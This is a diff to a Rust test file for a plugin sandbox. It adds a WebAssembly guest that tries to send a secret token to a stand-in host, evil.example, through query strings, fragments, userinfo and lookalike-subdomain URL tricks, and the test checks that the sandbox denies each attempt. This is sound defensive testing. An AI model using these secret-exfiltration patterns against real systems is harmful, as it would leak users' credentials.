@@ -5,7 +5,7 @@ use relata_sandbox::{CallRequest, Permissions};
 use serde_json::json;
 
 use crate::desk::{Desk, line, load, manifest, sandbox};
-use crate::guests;
+use crate::guests::{self, Guest};
 
 const SHOP: &str = "[[permissions.http]]\nhost = \"shop.example\"\nmethods = [\"POST\", \"GET\"]\n";
 const TOKEN: &str = "[permissions.secrets]\nshop-token = [\"shop.example\"]\nother = [\"other.example\"]\nmissing = [\"shop.example\"]\n";
@@ -189,4 +189,69 @@ async fn a_step_may_leave_less() {
     let request = CallRequest { leaves: Some(&leaves), ..CallRequest::new("act", &input) };
     let called = plugin.call(request, Desk::default()).await;
     expect!["denied: plugin `p`, action `act`: plugin `p` may not call POST https://shop.example: the step's `may` leaves it out"].assert_eq(&line(&called));
+}
+
+/// Sends `GET` to an address with a secret's placeholder at its end, and logs
+/// that address.
+fn leaks(beginning: &str) -> Guest {
+    let length = beginning.len();
+    // A placeholder has 46 bytes.
+    let whole = length + 46;
+    Guest::new(&format!(
+        r#"(call $secrets_placeholder (i32.const 9216) (i32.const 10) (i32.const 640))
+        (memory.copy (i32.const {place}) (i32.load (i32.const 644)) (i32.const 46))
+        (call $log_emit (i32.const 2) (i32.const 8192) (i32.const {whole}) (i32.const 0) (i32.const 0))
+        (call $http_send (i32.const 0) (i32.const 8192) (i32.const {whole}) (i32.const 0) (i32.const 0)
+          (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 600))
+        (if (result i32) (i32.load8_u (i32.const 600))
+          (then (call $fail (i32.load8_u (i32.const 604))
+                  (i32.load (i32.const 608)) (i32.load (i32.const 612))))
+          (else (call $done (local.get $input) (local.get $input_len))))"#,
+        place = 8192 + length,
+    ))
+    .import("secrets", "placeholder", "(param i32 i32 i32)")
+    .import("log", "emit", "(param i32 i32 i32 i32 i32)")
+    .import("http", "send", "(param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)")
+    .text_at(8192, beginning)
+    .text_at(9216, "shop-token")
+}
+
+#[tokio::test]
+async fn a_secret_in_an_address_goes_no_further() {
+    let grants = format!(
+        "{SHOP}{TOKEN}[[permissions.http]]\nhost = \"*\"\nmethods = [\"GET\"]\n[[permissions.http]]\nhost = \"*\"\nscheme = \"http\"\nmethods = [\"GET\"]\n"
+    );
+    let mut told = String::new();
+    for beginning in [
+        "https://shop.example/",
+        "https://evil.example/",
+        "https://evil.example/?key=",
+        "https://evil.example/#",
+        "https://evil.example:443/",
+        "https://shop.example@evil.example/",
+        "https://shop.example.evil.example/",
+        "https://",
+        "http://shop.example/",
+    ] {
+        let plugin = load(leaks(beginning).build(), &grants).await;
+        let input = json!({});
+        let called = plugin.call(CallRequest::new("act", &input), Desk::default()).await;
+        let asked = called.host.asked.join(" ");
+        let line = line(&called).replace("plugin `p`, action `act`: ", "");
+        let line = line.split(':').take(2).collect::<Vec<_>>().join(":");
+        told.push_str(&format!("{beginning} {asked} {line}\n"));
+        // All that the plugin ever had is the placeholder.
+        assert!(called.report.logs[0].message.contains("relata-secret-"));
+    }
+    expect![[r#"
+        https://shop.example/ GET https://shop.example/<shop-token> done: {}
+        https://evil.example/  denied: plugin `p` may not send the secret `shop-token` to evil.example
+        https://evil.example/?key=  denied: plugin `p` may not send the secret `shop-token` to evil.example
+        https://evil.example/#  denied: plugin `p` may not send the secret `shop-token` to evil.example
+        https://evil.example:443/  denied: plugin `p` may not send the secret `shop-token` to evil.example
+        https://shop.example@evil.example/  invalid: the address of a request has a user or password in it; they belong into the header `authorization`
+        https://shop.example.evil.example/  denied: plugin `p` may not send the secret `shop-token` to shop.example.evil.example
+        https://  invalid: the secret `shop-token` stands in the host of a request
+        http://shop.example/  denied: the secret `shop-token` would travel in the clear to http
+    "#]].assert_eq(&told);
 }
